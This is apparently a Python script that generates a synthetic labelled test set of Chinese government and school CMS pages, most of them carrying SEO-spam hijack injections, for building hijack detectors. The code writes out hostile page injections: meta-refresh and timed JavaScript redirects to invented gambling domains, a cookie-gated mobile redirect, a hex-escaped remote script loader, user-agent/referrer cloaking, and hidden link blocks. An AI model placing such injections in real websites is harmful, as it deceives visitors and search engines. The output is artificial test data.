#!/usr/bin/env python3
"""Generate synthetic-v9: 40 gov/edu pages (28 hijacked, 12 clean of which 4 legit) in 6 CMS templates.

python3 make_set.py [OUTDIR]   (default ../synthetic-v9). Fixed seed: re-running gives byte-identical files.
Templates (none like the dev generators'): D1 Drupal-7 node (utf-8), E2 EyouCMS/ThinkPHP school site (GBK),
S3 SiteServer CMS 信息公开 page (utf-8), Q4 Discuz! portal article (GB18030), M5 MetInfo site (utf-8),
P6 PowerEasy/动易 ASP article (GBK).
Injection forms are modelled on real-cases-v9 (porn keyword line, stuffed/suffixed titles, brand takeover,
keyword infix, spliced anchors, tag soup, off-screen affiliate block, meta refresh, timed/cookie-gated redirects,
hidden homoglyph links) plus 友情链接 blocks, document.write, hex loaders and UA/referrer cloaking.
"""
import html, json, os, random, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from articles import NORMAL, LEGIT, SOURCES, LEGIT_SOURCES, AUTHORS

E = lambda s: html.escape(s, quote=False)
RNG = random.Random(20261203)

# invented spam vocabulary (checked against every dev spam_strings entry: no overlap either way)
BRANDS = ["鎏金汇娱乐", "星瀚体育", "澜庭国际", "沐风棋牌", "青鸾彩票", "玄武娱乐城", "霁月真人", "翠屿体育", "金钥匙彩票", "银汀电竞"]
BRAND_DOMAINS = ["ljh-yl88.com", "xinghan-ty.net", "lanting-intl.vip", "mufeng-qp.cc", "qingluan-cp.top", "xuanwu-ylc.com", "jiyue-zr.app", "cuiyu-ty.org", "jinyaoshi-cp.net", "yinting-dj.com"]
PORN = ["午夜小剧场高清合集", "夜色直播间免费看", "蜜桃影视无删减版", "深夜私享视频在线", "桃色短片每日更新", "禁片资源免费观看"]
PHARMA_HOMO = "cheаp replica wаtches"  # Cyrillic а

def brand(i): return BRANDS[i % len(BRANDS)], BRAND_DOMAINS[i % len(BRAND_DOMAINS)]

# ------------------------------------------------------------------ injection forms
def f_porn_line(p, k):
    line = ",".join(RNG.sample(PORN, 4))
    p["top"].append('<div class="kwline">%s</div>' % line); p["spam"] += line.split(",")
    return "porn_keyword_line_top"
def f_title_stuff(p, k):
    b, _ = brand(k); s = "%s官网_%s注册_%s app下载_" % (b, b, b)
    p["title_tag"] = s + p["title_tag"]; p["spam"] += [b + "官网", b + "注册"]
    return "keyword_stuffed_title_prefix"
def f_title_suffix(p, k):
    w = PORN[k % len(PORN)]
    p["title_tag"] += "|" + w; p["h1_suffix"] = "|" + w; p["spam"].append(w)
    return "spam_title_suffix_pipe"
def f_brand_headline(p, k):
    b, _ = brand(k)
    p["h1_prefix"] = b + " "; p["title_tag"] = b + " " + p["title_tag"]; p["spam"].append(b)
    return "brand_prefix_in_headline"
def f_brand_takeover(p, k):
    b, d = brand(k)
    p["site_name"] = b + "(中国)官方网站"; p["top"].append('<div class="reg"><a href="https://%s/reg">立即注册</a> <a href="https://%s/login">备用线路</a></div>' % (d, d))
    p["spam"] += [b + "(中国)官方网站", "立即注册", "备用线路"]
    return "brand_takeover_site_name"
def f_infix(p, k):
    b, _ = brand(k); n = 0
    for i, para in enumerate(p["paras"]):
        if "," in para and n < 2:
            j = para.index(",")
            p["paras"][i] = para[:j] + "," + E(b) + para[j:]; n += 1
    p["spam"].append(b)
    return "brand_infix_in_body"
def f_anchor(p, k):
    w = PORN[(k + 2) % len(PORN)]; i = min(1, len(p["paras"]) - 1); para = p["paras"][i]
    j = para.find("。")
    j = j + 1 if j >= 0 else len(para)
    p["paras"][i] = para[:j] + '<a href="http://%s/">%s</a>' % (BRAND_DOMAINS[k % 10], w) + para[j:]; p["spam"].append(w)
    return "spliced_anchor_in_body"
def f_tagsoup(p, k):
    rid = "".join(RNG.choice("abcdefghijkmnpqrstuvwxyz0123456789") for _ in range(5))
    w = ",".join(RNG.sample(PORN, 3))
    p["top"].append('<noframes id="%s"><listing id="%s"></listing></noframes><address id="%s"><th id="%s"><progress id="%s"></progress></th></address><p>%s</p>' % ((rid,) * 5 + (w,)))
    p["spam"] += w.split(",")
    return "random_id_tag_soup"
def f_offscreen(p, k):
    b, d = brand(k + 3)
    p["after_content"].append('<div style="position:absolute;left:-4000px;top:-4000px;width:1px;overflow:hidden"><a href="https://%s/?aff=7731">%s</a> <a href="https://%s/m/">%s手机版</a></div>' % (d, b, d, b))
    p["spam"] += [b, d]
    return "offscreen_link_block"
def f_meta_refresh(p, k):
    _, d = brand(k + 1)
    p["head"].append('<meta http-equiv="refresh" content="2;url=https://%s/?from=gov">' % d); p["spam"].append(d)
    return "meta_refresh"
def f_timed(p, k):
    _, d = brand(k + 5)
    p["end"].append("<script>setTimeout(function(){window.location.replace('https://%s/h5/');},1500);</script>" % d); p["spam"].append(d)
    return "timed_js_redirect"
def f_cookie(p, k):
    _, d = brand(k + 7)
    p["head"].append("<script>(function(){if(document.cookie.indexOf('_vis_ok')>-1)return;document.cookie='_vis_ok=1;path=/;max-age=43200';if(/iphone|android|mobile/i.test(navigator.userAgent)){location.href='https://%s/m/';}})();</script>" % d)
    p["spam"].append(d)
    return "cookie_gated_mobile_redirect"
def f_homoglyph(p, k):
    p["footer"].append('<div style="display:none"><a href="#">%s</a> <a href="#">%s</a></div>' % (PHARMA_HOMO, PHARMA_HOMO)); p["spam"].append(PHARMA_HOMO)
    return "hidden_homoglyph_links"
def f_source_brand(p, k):
    b, _ = brand(k + 4)
    p["source_display"] = b; p["truth_source"] = None; p["spam"].append(b)
    return "brand_as_source"
def f_friend_links(p, k):
    bs = [brand(k + i) for i in range(4)]
    links = " ".join('<a href="https://%s/" target="_blank">%s</a>' % (d, b) for b, d in bs)
    p["footer"].append('<div class="flink"><span>友情链接:</span><a href="http://www.gov.cn/" target="_blank">中国政府网</a> %s</div>' % links)
    p["spam"] += [b for b, _ in bs]
    return "sold_friendship_links"
def f_docwrite(p, k):
    b, d = brand(k + 2)
    p["end"].append("<script>document.write('<div style=\"display:none\"><a href=\"https://%s/\">%s</a><a href=\"https://%s/cp/\">%s彩票</a></div>');</script>" % (d, b, d, b))
    p["spam"].append(b)
    return "document_write_hidden_links"
def f_hex(p, k):
    b, d = brand(k + 6)
    url = "https://%s/j.js" % d
    hexed = "".join("\\x%02x" % ord(c) for c in url)
    p["head"].append('<script>var _s=document.createElement("script");_s.src="%s";document.getElementsByTagName("head")[0].appendChild(_s);</script>' % hexed)
    p["end"].append('<noscript><a href="https://%s/">%s</a></noscript>' % (d, b))
    p["spam"].append(b)
    return "hex_escaped_loader_with_noscript_link"
def f_cloak(p, k):
    b, d = brand(k + 8)
    p["head"].append("<script>var ua=navigator.userAgent.toLowerCase(),rf=document.referrer;if(/baiduspider|sogou|360spider|yisouspider/.test(ua)){document.title='%s-%s官方入口';}else if(/baidu\\.com|so\\.com|sm\\.cn|sogou\\.com/.test(rf)){top.location.href='https://%s/';}</script>" % (b, b, d))
    p["spam"] += [b + "官方入口", d]
    return "ua_referrer_cloaking_script"
def f_promo_lead(p, k):
    b, _ = brand(k + 9)
    s = "%s提醒您:首存即送彩金,真人视讯、体育赛事、彩票棋牌一站畅玩。" % b
    p["paras"].insert(0, E(s)); p["spam"].append(s); p["promo_idx"] = 0
    return "promo_lead_paragraph"

FORMS = [f_porn_line, f_title_stuff, f_title_suffix, f_brand_headline, f_brand_takeover, f_infix, f_anchor, f_tagsoup,
         f_offscreen, f_meta_refresh, f_timed, f_cookie, f_homoglyph, f_source_brand, f_friend_links, f_docwrite, f_hex, f_cloak, f_promo_lead]

# ------------------------------------------------------------------ templates
def fmt_date(d, style):
    y, m, dd = d
    return {"iso": "%04d-%02d-%02d" % (y, m, dd), "short": "%d-%d-%d" % (y, m, dd), "cn": "%d年%02d月%02d日" % (y, m, dd), "slash": "%04d/%02d/%02d" % (y, m, dd)}[style]

def h1(p):
    return E(p["h1_prefix"]) + E(p["title"]) + E(p["h1_suffix"])

def body(p):
    return "\n".join("<p>%s</p>" % x for x in p["paras"])

def head(p, enc, extra=""):
    return '<meta http-equiv="Content-Type" content="text/html; charset=%s">\n%s<title>%s</title>\n%s' % (enc, extra, E(p["title_tag"]), "\n".join(p["head"]))

def t_D1(p, enc):  # Drupal 7 node
    return ('<!DOCTYPE html>\n<html lang="zh-hans" dir="ltr">\n<head>\n%s\n<link rel="stylesheet" href="/sites/all/themes/govzen/css/style.css">\n</head>\n'
            '<body class="html not-front page-node node-type-article">\n%s<div id="page-wrapper"><div id="header"><a class="site-name" href="/">%s</a></div>\n'
            '<div id="main"><div class="region region-content"><div id="node-%d" class="node node-article clearfix">\n<h1 class="page-title">%s</h1>\n'
            '<div class="submitted"><span class="date">发布时间:%s</span> <span class="src">来源:%s</span> <span class="by">作者:%s</span></div>\n'
            '<div class="field field-name-body"><div class="field-items"><div class="field-item even" property="content:encoded">\n%s\n</div></div></div>\n%s</div></div></div>\n'
            '<div id="footer"><div class="region-footer">%s 版权所有</div>%s</div></div>\n%s</body>\n</html>\n') % (
        head(p, enc), "".join(p["top"]), E(p["site_name"]), p["nid"], h1(p), fmt_date(p["date"], "iso") + " %02d:%02d" % p["hm"],
        E(p["source_display"]), E(p["author"]), body(p), "".join(p["after_content"]), E(p["real_site"]), "".join(p["footer"]), "".join(p["end"]))

def t_E2(p, enc):  # EyouCMS school site, GBK
    return ('<!DOCTYPE html>\n<html>\n<head>\n%s\n<meta name="generator" content="EyouCMS">\n</head>\n<body>\n%s<div class="top"><div class="w1200"><h2 class="logo">%s</h2></div></div>\n'
            '<div class="nav"><ul><li><a href="/">网站首页</a></li><li><a href="/xxgk/">学校概况</a></li><li><a href="/xwzx/">新闻中心</a></li><li><a href="/jxky/">教学科研</a></li></ul></div>\n'
            '<div class="w1200 main"><div class="crumb">您的位置:<a href="/">首页</a> &gt; <a href="/xwzx/">新闻中心</a></div>\n<div class="article">\n<div class="art-title">%s</div>\n'
            '<div class="art-info"><span>发布时间:%s</span><span>来源:%s</span><span>作者:%s</span><span>浏览次数:<i id="eyou_click_%d">%d</i></span></div>\n'
            '<div class="art-con">\n%s\n</div>\n%s<div class="prenext"><p>上一篇:<a href="#">暂无</a></p><p>下一篇:<a href="#">暂无</a></p></div></div></div>\n'
            '<div class="footer">Copyright &copy; %s 地址:本市文化路 %s</div>\n%s</body>\n</html>\n') % (
        head(p, enc), "".join(p["top"]), E(p["site_name"]), h1(p), fmt_date(p["date"], "iso"), E(p["source_display"]), E(p["author"]), p["nid"], p["views"],
        body(p), "".join(p["after_content"]), E(p["real_site"]), "".join(p["footer"]), "".join(p["end"]))

def t_S3(p, enc):  # SiteServer CMS 信息公开
    return ('<!DOCTYPE html>\n<html>\n<head>\n%s\n</head>\n<body>\n%s<div class="header"><img src="/images/logo.png" alt=""><span>%s</span></div>\n'
            '<div class="xxgk-main"><table class="xxgk-meta" border="0" cellpadding="0" cellspacing="0">\n'
            '<tr><td class="t">索 引 号:</td><td>%s</td><td class="t">主题分类:</td><td>综合政务</td></tr>\n'
            '<tr><td class="t">发布机构:</td><td>%s</td><td class="t">发文日期:</td><td>%s</td></tr>\n'
            '<tr><td class="t">名  称:</td><td colspan="3">%s</td></tr></table>\n'
            '<div class="xxgk-title"><h1>%s</h1></div>\n<div class="xxgk-sub">信息来源:%s&nbsp;&nbsp;发布日期:%s&nbsp;&nbsp;【字体:<a>大</a> <a>中</a> <a>小</a>】</div>\n'
            '<div id="zoom" class="xxgk-content">\n%s\n</div>\n%s<div class="xxgk-tools"><a href="javascript:window.print()">打印本页</a> <a href="javascript:window.close()">关闭窗口</a></div></div>\n'
            '<div class="footer">主办:%s 技术支持:SiteServer CMS</div>\n%s%s</body>\n</html>\n') % (
        head(p, enc), "".join(p["top"]), E(p["site_name"]), p["index_no"], E(p["real_site"]), fmt_date(p["date"], "iso"), E(p["title"]), h1(p),
        E(p["source_display"]), fmt_date(p["date"], "iso"), body(p), "".join(p["after_content"]), E(p["real_site"]), "".join(p["footer"]), "".join(p["end"]))

def t_Q4(p, enc):  # Discuz! portal article, GB18030
    return ('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">\n<html xmlns="http://www.w3.org/1999/xhtml">\n<head>\n%s\n'
            '<meta name="generator" content="Discuz! X3.4">\n</head>\n<body id="nv_portal" class="pg_view">\n%s<div id="hd"><div class="wp"><h2><a href="./">%s</a></h2></div></div>\n'
            '<div id="pt" class="bm cl"><div class="z"><a href="./">门户</a> <em>&rsaquo;</em> <a href="portal.php?mod=list&amp;catid=2">工作动态</a> <em>&rsaquo;</em> 查看内容</div></div>\n'
            '<div id="ct" class="ct2 wp cl"><div class="mn"><div class="bm vw"><div class="h hm"><h1 class="ph">%s</h1>\n'
            '<p class="xg1">%s<span class="pipe">|</span> 发布者: admin<span class="pipe">|</span> 查看: %d<span class="pipe">|</span> 评论: 0<span class="pipe">|</span>原作者: %s<span class="pipe">|</span>来自: %s</p></div>\n'
            '<div class="d"><table cellpadding="0" cellspacing="0" class="vwtb"><tr><td id="article_content">\n%s\n</td></tr></table>%s</div></div></div></div>\n'
            '<div id="ft" class="wp cl">%s<p>Powered by Discuz! X3.4 &copy; 2001-2024 Tencent Cloud.</p></div>\n%s</body>\n</html>\n') % (
        head(p, enc), "".join(p["top"]), E(p["site_name"]), h1(p), fmt_date(p["date"], "short") + " %02d:%02d" % p["hm"], p["views"], E(p["author"]), E(p["source_display"]),
        body(p), "".join(p["after_content"]), "".join(p["footer"]), "".join(p["end"]))

def t_M5(p, enc):  # MetInfo, byline split: author/source above, date at the end
    return ('<!DOCTYPE html>\n<html>\n<head>\n%s\n<meta name="generator" content="MetInfo 7.8">\n</head>\n<body class="met-page">\n%s<header class="met-head"><div class="container"><a class="navbar-brand">%s</a></div></header>\n'
            '<section class="met-shownews"><div class="container"><div class="details-title"><h1 class="m-0">%s</h1>\n'
            '<div class="info font-weight-300"><span>作者:%s</span><span>来源:%s</span><span><i class="icon wb-eye"></i>%d</span></div></div>\n'
            '<section class="met-editor clearfix">\n%s\n</section>\n<div class="met-pubdate">发布日期:%s</div>\n%s</div></section>\n'
            '<footer class="met-foot"><div class="container">%s%s</div></footer>\n%s</body>\n</html>\n') % (
        head(p, enc), "".join(p["top"]), E(p["site_name"]), h1(p), E(p["author"]), E(p["source_display"]), p["views"], body(p),
        fmt_date(p["date"], "cn"), "".join(p["after_content"]), E(p["real_site"]), "".join(p["footer"]), "".join(p["end"]))

def t_P6(p, enc):  # PowerEasy/动易 ASP, tables, one-line byline
    return ('<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">\n<html>\n<head>\n%s\n</head>\n<body leftmargin="0" topmargin="0">\n%s'
            '<table width="990" border="0" align="center" cellpadding="0" cellspacing="0"><tr><td class="top_bg"><b>%s</b></td></tr></table>\n'
            '<table width="990" border="0" align="center" cellpadding="0" cellspacing="0"><tr><td valign="top">\n'
            '<table width="100%%" border="0" cellspacing="0" cellpadding="0"><tr><td class="main_title_2">您现在的位置:&nbsp;<a href="/">首页</a>&nbsp;&gt;&gt;&nbsp;<a href="/Article/">工作动态</a>&nbsp;&gt;&gt;&nbsp;正文</td></tr></table>\n'
            '<table width="100%%" border="0" cellspacing="0" cellpadding="0"><tr><td class="title_text" align="center"><font size="4"><b>%s</b></font></td></tr>\n'
            '<tr><td align="center" class="title_info">作者:%s&nbsp;&nbsp;&nbsp;&nbsp;文章来源:%s&nbsp;&nbsp;&nbsp;&nbsp;点击数:<script src="/Article/GetHits.asp?ArticleID=%d"></script>&nbsp;&nbsp;&nbsp;&nbsp;更新时间:%s</td></tr>\n'
            '<tr><td id="fontzoom" class="article_text">\n%s\n</td></tr></table>\n%s</td></tr></table>\n'
            '<table width="990" align="center"><tr><td class="bottom">%s %s</td></tr></table>\n%s</body>\n</html>\n') % (
        head(p, enc), "".join(p["top"]), E(p["site_name"]), h1(p), E(p["author"]), E(p["source_display"]), p["nid"], fmt_date(p["date"], "short"),
        body(p), "".join(p["after_content"]), E(p["real_site"]), "".join(p["footer"]), "".join(p["end"]))

TEMPLATES = [("D1", t_D1, "utf-8", "gov"), ("E2", t_E2, "gbk", "edu"), ("S3", t_S3, "utf-8", "gov"),
             ("Q4", t_Q4, "gb18030", "gov"), ("M5", t_M5, "utf-8", "edu"), ("P6", t_P6, "gbk", "edu")]
GOV_SITES = ["青溪县人民政府", "临川区农业农村局", "安平市卫生健康委员会", "石门镇人民政府", "南关街道办事处", "云岭县自然资源局"]
EDU_SITES = ["江岸职业技术学院", "北山师范学院附属中学", "东湖理工学院研究生院", "西城区实验小学", "海滨大学化学学院", "平原农业大学"]

def main():
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "synthetic-v9")
    os.makedirs(os.path.join(out, "html"), exist_ok=True)
    # 40 pages: index 0..39; clean = 12 (legit 4), hijacked 28
    kinds = ["hij"] * 28 + ["clean"] * 8 + ["legit"] * 4
    RNG.shuffle(kinds)
    form_cycle = FORMS[:]
    RNG.shuffle(form_cycle)
    fi = 0; rows = []
    for i, kind in enumerate(kinds):
        code, fn, enc, sect = TEMPLATES[i % 6]
        if kind == "legit":
            li = (i // 6) % 4 if False else sum(1 for x in kinds[:i] if x == "legit")
            title, paras = LEGIT[li]; src = LEGIT_SOURCES[li]
        else:
            ai = RNG.randrange(len(NORMAL)); title, paras = NORMAL[ai]; src = SOURCES[ai]
        site = RNG.choice(GOV_SITES if sect == "gov" else EDU_SITES)
        date = (RNG.choice([2023, 2024, 2025]), RNG.randint(1, 12), RNG.randint(1, 28))
        p = dict(title=title, title_tag=title + " - " + site, h1_prefix="", h1_suffix="", site_name=site, real_site=site,
                 paras=[E(x) for x in paras], top=[], head=[], after_content=[], footer=[], end=[], spam=[],
                 source_display=src, truth_source=src, author=RNG.choice(AUTHORS), date=date, hm=(RNG.randint(8, 18), RNG.randint(0, 59)),
                 nid=RNG.randint(1000, 99999), views=RNG.randint(30, 4000), index_no="%d-%02d-%05d" % (date[0], date[1], RNG.randint(1, 99999)))
        injections = []
        if kind == "hij":
            n = RNG.choice([1, 1, 2, 2, 3])
            for _ in range(n):
                f = form_cycle[fi % len(form_cycle)]; fi += 1
                injections.append(f(p, i))
        page = fn(p, enc).encode(enc)
        pid = "sv9-%03d" % (i + 1)
        with open(os.path.join(out, "html", pid + ".html"), "wb") as fh:
            fh.write(page)
        text_paras = list(paras)
        rows.append(dict(id=pid, url="http://www.example-%s.gov.cn/art/%d/%d.html" % (code.lower(), date[0], p["nid"]) if sect == "gov" else "http://www.example-%s.edu.cn/info/%d/%d.htm" % (code.lower(), date[1], p["nid"]),
                         title=title, date=fmt_date(date, "iso"), source=p["truth_source"], author=p["author"], text="\n".join(text_paras),
                         hijacked=kind == "hij", injections=injections, spam_strings=sorted(set(p["spam"])), legit=kind == "legit", lang="zh",
                         origin="synthetic-generator-v9/make_set.py", kind="synthetic", site=site, capture="html", encoding=enc, template=code))
    with open(os.path.join(out, "truth.jsonl"), "w", encoding="utf-8") as fh:
        for r in rows:
            fh.write(json.dumps(r, ensure_ascii=False) + "\n")
    print(len(rows), "pages ->", out)

if __name__ == "__main__":
    main()
